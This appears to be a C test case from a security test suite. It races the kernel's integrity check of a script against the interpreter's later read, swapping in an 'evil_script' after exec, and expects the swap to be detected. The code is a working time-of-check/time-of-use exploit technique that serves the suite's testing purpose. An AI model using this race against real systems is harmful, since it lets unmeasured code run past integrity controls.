/*
 * The kernel has looked at a script when the interpreter starts, and the interpreter reads it later: the
 * one who executed it, and who goes on the moment the old program's memory is let go of, is faster.
 * Argument: stopped, where the interpreter is held up for as long as he likes; moded, the same, where the file
 * is not written to before, but copied up by a change of its mode alone.
 * Must be seen: that the file was changed, or its new digest.
 */
#include "attack.h"

ATTACK(changed_script)
{
	size_t size = size_of(SCRIPT);
	char good[size], *argv_of[] = {SCRIPT, 0}, *none[] = {0};
	int fd = opened(SCRIPT, O_RDONLY);
	struct sched_param idle = {0};
	cpu_set_t one;
	pid_t child;

	must(read(fd, good, size), "read");
	close(fd);
	/* Copied up before: that takes longer than a shell's start. */
	if (is_mode(argv, "moded"))
		must(chmod(SCRIPT, 0700), "chmod");
	else
		overwrite(SCRIPT, good, size);
	/* On one processor, and the child only when nobody else wants it. */
	CPU_ZERO(&one);
	CPU_SET(0, &one);
	sched_setaffinity(0, sizeof(one), &one);
	child = vfork();
	if (!child) {
		sched_setscheduler(0, SCHED_IDLE, &idle);
		execve(SCRIPT, argv_of, none);
		_exit(4);
	}
	if (is_mode(argv, "stopped") || is_mode(argv, "moded")) {
		kill(child, SIGSTOP);
		sleep(3);
	}
	overwrite(SCRIPT, evil_script, size);
	kill(child, SIGCONT);
	waitpid(child, 0, 0);
	overwrite(SCRIPT, good, size);
	return 0;
}
